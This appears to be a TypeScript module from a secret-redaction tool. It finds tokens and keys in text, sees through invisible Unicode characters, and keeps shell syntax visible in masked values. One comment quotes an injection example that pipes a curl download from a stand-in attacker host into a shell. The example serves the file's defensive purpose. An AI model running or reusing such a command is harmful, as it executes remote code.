import { SECRET_PATTERNS, type SecretPattern, VALUE_MARKER } from './secret-patterns.js';

/** A replacement of `text[start, end)`, and the secret values it hides (for counting). */
export interface Edit {
  start: number;
  end: number;
  text: string;
  secrets: string[];
}

/** A pattern match: the secret's range, where the whole match starts, and the pattern's rank. */
export interface Span extends Edit {
  /** Where the whole match (prefix included) starts. */
  matchStart: number;
  priority: number;
  /** A match whose secret is already masked: it changes nothing, but still explains its text. */
  masked?: true;
}

const SECRET_GROUPS = ['secret', 'secretDq', 'secretSq'] as const;

/**
 * Every pattern match, reduced to non-overlapping spans sorted by position. Invisible characters
 * (zero-width spaces and joiners, soft hyphens, direction marks, BOMs: Unicode category Cf; and
 * variation selectors) are
 * ignored while matching, so `ghp_abc\u200bdef…` is still a token; a span then covers them too.
 */
export function findSpans(text: string): Span[] {
  const folded = foldInvisible(text);
  const spans: Span[] = [];
  SECRET_PATTERNS.forEach((pattern, priority) => {
    collect(folded.text, pattern, priority, spans);
  });
  if (folded.map) for (const span of spans) unfold(span, folded.map);
  spans.sort((a, b) => a.start - b.start || a.priority - b.priority);
  return resolveOverlaps(spans).filter((span) => !span.masked);
}

const INVISIBLE = /(?:\p{Cf}|\p{Variation_Selector}|\u034f)+/gu;

/**
 * `text` without invisible characters, and for each position of the result the position it came
 * from in `text` (one more entry for the end); no map when there was nothing to remove.
 */
function foldInvisible(text: string): { text: string; map: Int32Array | null } {
  INVISIBLE.lastIndex = 0;
  if (!INVISIBLE.test(text)) return { text, map: null };
  const parts: string[] = [];
  const map = new Int32Array(text.length + 1);
  let length = 0;
  let from = 0;
  const keep = (end: number) => {
    parts.push(text.slice(from, end));
    for (let i = from; i < end; i++) map[length++] = i;
  };
  INVISIBLE.lastIndex = 0;
  for (let m = INVISIBLE.exec(text); m !== null; m = INVISIBLE.exec(text)) {
    keep(m.index);
    from = m.index + m[0].length;
  }
  keep(text.length);
  map[length] = text.length;
  return { text: parts.join(''), map: map.subarray(0, length + 1) };
}

/** Moves a span found in the folded text back onto the original text. */
function unfold(span: Span, map: Int32Array): void {
  span.matchStart = map[span.matchStart] as number;
  span.start = map[span.start] as number;
  // The end is just after the last character of the secret.
  span.end = (map[span.end - 1] as number) + 1;
}

/**
 * Shell syntax that can run something or send output elsewhere: a pipe, a command separator, `&`,
 * a redirection, a command substitution (`$(`, a backtick) or a parameter expansion (`${IFS}`);
 * and a backslash, which starts an escape: in JSON text `\n` is a line break, after which another
 * command may follow.
 */
const ACTIVE = /[|;&<>`\\]|\$[({]/;
/** The same in a one-line private key, whose lines are joined by literal `\n` / `\r` escapes. */
const ACTIVE_IN_KEY = /[|;&<>`]|\\(?![rn])|\$[({]/;

/**
 * The part of a secret's range that can be masked: up to the first shell-active character (see
 * ACTIVE), or null when it starts with one. A masked span must never hide something that would
 * run: in `API_TOKEN=1|curl${IFS}evil.example|sh` a reviewer must see `|curl...`, which is what a
 * shell would run after assigning `1`. A real secret holding such a character is masked up to it
 * (the rest shows): approving what one cannot see is the worse failure.
 */
function inertPart(text: string, range: [number, number], activeRe = ACTIVE): [number, number] | null {
  const value = text.slice(range[0], range[1]);
  const active = activeRe.exec(value);
  if (active === null) return range;
  // Spaces before the shell syntax stay visible (`password: foo | bar` → `[redacted] | bar`).
  const kept = value.slice(0, active.index).trimEnd().length;
  return kept === 0 ? null : [range[0], range[0] + kept];
}

function collect(text: string, pattern: SecretPattern, priority: number, into: Span[]): void {
  const regex = pattern.regex;
  regex.lastIndex = 0;
  for (let m = regex.exec(text); m !== null; m = regex.exec(text)) {
    if (m[0].length === 0) {
      regex.lastIndex++;
      continue;
    }
    const groups = m.indices?.groups;
    const group = groups && SECRET_GROUPS.find((g) => groups[g] !== undefined);
    const found = group && groups[group];
    if (!found) continue;
    const range = inertPart(text, found, pattern.kind === 'private-key' ? ACTIVE_IN_KEY : ACTIVE);
    if (range === null) {
      regex.lastIndex = Math.max(found[0], m.index + 1);
      continue;
    }
    const secret = text.slice(range[0], range[1]);
    // Already masked: kept as a span that changes nothing, so that a second pass resolves the
    // same overlaps as the first (redaction is idempotent).
    const masked = secret.includes('[redacted');
    if (!masked && pattern.accept && !pattern.accept(secret, group !== 'secret')) {
      // Not a secret (a placeholder, code): look again from where its value started, since the
      // value may hold the real thing (`password= password: hunter2`). Each retry moves forward.
      regex.lastIndex = Math.max(range[0], m.index + 1);
      continue;
    }
    if (masked) {
      into.push({
        matchStart: m.index,
        start: range[0],
        end: range[1],
        text: secret,
        secrets: [],
        priority,
        masked,
      });
      continue;
    }
    into.push({
      matchStart: m.index,
      start: range[0],
      end: range[1],
      text: pattern.marker,
      secrets: [pattern.normalize ? pattern.normalize(secret) : secret],
      priority,
    });
  }
  regex.lastIndex = 0;
}

/**
 * When two spans overlap, keep the one whose whole match explains the other's secret (so
 * `token: ghp_x` becomes `token: ghp_…[redacted]`, and `secret: "a ghp_x"` masks the whole
 * quoted value); if both or neither do, the earlier pattern wins or the two are merged.
 */
function resolveOverlaps(sorted: Span[]): Span[] {
  const out: Span[] = [];
  for (const span of sorted) {
    const last = out[out.length - 1];
    if (last === undefined || span.start >= last.end) {
      out.push(span);
      continue;
    }
    const spanCovers = span.matchStart <= last.start && span.end >= last.end;
    const lastCovers = last.matchStart <= span.start && last.end >= span.end;
    if (spanCovers && (!lastCovers || span.priority < last.priority)) {
      out[out.length - 1] = span;
    } else if (!lastCovers) {
      out[out.length - 1] = {
        ...(last.masked && span.masked ? { masked: true as const } : {}),
        matchStart: Math.min(last.matchStart, span.matchStart),
        start: last.start,
        end: Math.max(last.end, span.end),
        text: VALUE_MARKER,
        secrets: [...last.secrets, ...span.secrets],
        priority: Math.min(last.priority, span.priority),
      };
    }
  }
  return out;
}

/**
 * Line edits win over spans that touch the same text; the part of a span before the line edit it
 * runs into is kept (`password="x -----BEGIN PRIVATE KEY-----…` masks both). Both inputs are
 * sorted and non-overlapping.
 */
export function mergeEdits(lineEdits: Edit[], spans: Edit[]): Edit[] {
  if (lineEdits.length === 0) return spans;
  const out: Edit[] = [...lineEdits];
  let i = 0;
  for (const span of spans) {
    while (i < lineEdits.length && (lineEdits[i] as Edit).end <= span.start) i++;
    const next = lineEdits[i];
    if (next !== undefined && next.start < span.end) {
      if (span.start < next.start) out.push({ ...span, end: next.start });
      continue;
    }
    out.push(span);
  }
  return out.sort((a, b) => a.start - b.start);
}
